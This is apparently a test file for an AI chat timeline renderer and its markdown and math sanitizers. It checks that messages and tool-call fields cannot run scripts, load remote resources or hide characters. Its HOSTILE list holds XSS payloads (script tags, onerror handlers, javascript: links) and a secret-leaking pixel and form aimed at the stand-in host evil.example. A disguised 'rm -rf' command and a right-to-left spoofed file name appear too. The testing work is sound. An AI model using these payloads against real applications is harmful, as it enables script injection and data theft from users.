import { enableJSDOM } from '@theia/core/lib/browser/test/jsdom';

let disableJSDOM = enableJSDOM();

import { FrontendApplicationConfigProvider } from '@theia/core/lib/browser/frontend-application-config-provider';
try {
    FrontendApplicationConfigProvider.set({});
} catch {
    // Another spec in this process has set it already.
}

import { expect } from 'chai';
import { call, RenderedTimeline } from '../test/rendered-timeline';
import { sanitizeMarkdown, sanitizeMath } from './sanitize';

disableJSDOM();

const HOSTILE = [
    '<script>window.attacked = 1</script>',
    '<img src="https://evil.example/a.png" onerror="window.attacked = 1">',
    '![pixel](https://evil.example/pixel.png?secret=1)',
    '[click](javascript:window.attacked=1)',
    '[click]( javascript:window.attacked=1)',
    '[click](data:text/html;base64,PHNjcmlwdD4=)',
    '<svg onload="window.attacked=1"><style>@import url(https://evil.example/a.css)</style></svg>',
    '<iframe src="https://evil.example"></iframe>',
    '<form action="https://evil.example"><input name="cookie" autofocus onfocus="x"></form>',
    '<a id="location" name="theia" href="https://evil.example">x</a>',
    '<link rel="prefetch" href="https://evil.example">',
    '<div style="position:fixed;inset:0;background:url(https://evil.example/b.png)">x</div>',
    '$\\href{javascript:window.attacked=1}{x}$ $\\includegraphics{https://evil.example/c.png}$ $\\htmlId{location}{x}$',
    '```html\n<script>window.attacked = 1</script>\n```',
    '`<img src=x onerror=alert(1)>`',
    '|<img src=x>|\n|---|\n|<script>x</script>|',
    '[x]: https://evil.example "onmouseover=alert(1)"',
    'a\u202e\u2066b'
].join('\n\n');

/** What must not be there whatever was written. */
function expectHarmless(element: HTMLElement): void {
    for (const node of element.querySelectorAll('*')) {
        expect(node.tagName.toLowerCase()).not.to.match(
            /^(script|iframe|object|embed|form|input|link|meta|style|base|audio|video|source|svg|foreignobject|image)$/
        );
        for (const { name, value } of node.attributes) {
            expect(name, node.outerHTML).not.to.match(/^(on|id$|name$|href$|xlink:href$|srcset$|style$|action$|formaction$|background$)/);
            expect(name === 'src' && !/^data:image\/(png|jpeg|gif|webp);/.test(value), node.outerHTML).to.equal(false);
        }
    }
}

describe('hostile messages', () => {
    let timeline: RenderedTimeline;

    before(() => (disableJSDOM = enableJSDOM()));
    after(() => disableJSDOM());
    beforeEach(() => (timeline = new RenderedTimeline()));
    afterEach(() => timeline.dispose());

    it('run nothing, load nothing and name nothing, in answers, thoughts and questions', async () => {
        const shown = await timeline.showParts(
            { type: 'text', text: HOSTILE },
            { type: 'reasoning', text: HOSTILE, time: { start: 1, end: 2 } }
        );
        await timeline.openAll();
        await new Promise(resolve => setTimeout(resolve, 200));
        expectHarmless(shown);
        expect((window as unknown as { attacked?: number }).attacked).to.equal(undefined);
        expect(shown.textContent).to.contain('<script>');
    });

    it('do so also in every field of every tool', async () => {
        const tools = ['bash', 'edit', 'write', 'apply_patch', 'task', 'todowrite', 'question', 'webfetch', 'skill', 'mcp_tool'];
        const input = {
            command: HOSTILE,
            filePath: HOSTILE,
            content: HOSTILE,
            description: HOSTILE,
            prompt: HOSTILE,
            url: HOSTILE,
            name: HOSTILE,
            questions: [{ question: HOSTILE }],
            todos: [{ content: HOSTILE, status: HOSTILE }]
        };
        const metadata = {
            diff: `--- a\n+++ a\n@@ -1 +1 @@\n-${HOSTILE.split('\n')[0]}\n+${HOSTILE.split('\n')[2]}\n`,
            answers: [[HOSTILE]],
            sessionId: HOSTILE
        };
        const shown = await timeline.showParts(
            ...tools.map(tool => call(tool, { input, metadata, output: HOSTILE, title: HOSTILE })),
            ...tools.map(tool => call(tool, { status: 'error', input, error: HOSTILE }))
        );
        await timeline.openAll();
        await new Promise(resolve => setTimeout(resolve, 200));
        expectHarmless(shown);
        expect((window as unknown as { attacked?: number }).attacked).to.equal(undefined);
    });

    it('cannot hide characters in the names of files', async () => {
        const shown = await timeline.showParts(
            call('edit', { input: { filePath: '/w/cod\u202etxt.exe' }, metadata: {} }),
            call('bash', { input: { command: 'rm\u200b -rf\u2066' } })
        );
        expect(shown.textContent).to.contain('U+202E').and.to.contain('U+200B').and.to.contain('U+2066');
    });

    it('are stopped by the second wall too, should the parser ever let them through', () => {
        const element = document.createElement('div');
        element.innerHTML = sanitizeMarkdown(HOSTILE);
        expectHarmless(element);
        element.innerHTML = sanitizeMath(
            '<math href="javascript:x"><mi id="a" style="background:url(https://e)">x</mi><mtext><img src="https://e"></mtext></math>'
        );
        expectHarmless(element);
    });
});

describe('links and code of messages', () => {
    let timeline: RenderedTimeline;

    before(() => (disableJSDOM = enableJSDOM()));
    after(() => disableJSDOM());
    beforeEach(() => (timeline = new RenderedTimeline()));
    afterEach(() => timeline.dispose());

    it('are followed by click and by key, through who asks first', async () => {
        const shown = await timeline.showParts({ type: 'text', text: '[web](https://a.b) [place](deck:a.deck.md#3)' });
        await timeline.click('.openspace-md-web');
        const place = shown.querySelector('.openspace-md-place');
        place?.dispatchEvent(new window.KeyboardEvent('keydown', { key: 'Enter', bubbles: true }));
        expect(timeline.asked).to.deep.equal(['open https://a.b', 'open deck:a.deck.md#3']);
        expect(place?.getAttribute('tabindex')).to.equal('0');
    });

    it('can be copied, inserted and applied', async () => {
        await timeline.showParts({ type: 'text', text: '```ts title=a.ts\nlet a;\n```' });
        await timeline.click('[aria-label="Copy code"]');
        await timeline.click('[aria-label="Insert at cursor"]');
        await timeline.click('[aria-label^="Apply to a.ts"]');
        expect(timeline.asked).to.deep.equal(['copy let a;', 'insert let a;', 'apply ts title=a.ts|let a;']);
    });

    it('have their buttons inside lists and quotations too', async () => {
        const shown = await timeline.showParts({ type: 'text', text: '2. Do\n   ```ts\n   let a;\n   ```\n\n> ```sh\n> ls\n> ```' });
        expect(shown.querySelector('ol[start="2"] > li .openspace-code pre')?.textContent).to.equal('let a;');
        await timeline.click('blockquote [aria-label="Copy code"]');
        expect(timeline.asked).to.deep.equal(['copy ls']);
    });

    it('draws formulas', async () => {
        const shown = await timeline.showParts({ type: 'text', text: 'The area is $\\pi r^2$.' });
        for (let count = 0; count < 100 && !shown.querySelector('math'); count++) {
            await new Promise(resolve => setTimeout(resolve, 20));
        }
        expect(shown.querySelector('[role=math]')?.getAttribute('aria-label')).to.equal('\\pi r^2');
        expect(shown.querySelector('math msup')).not.to.equal(null);
    });
});
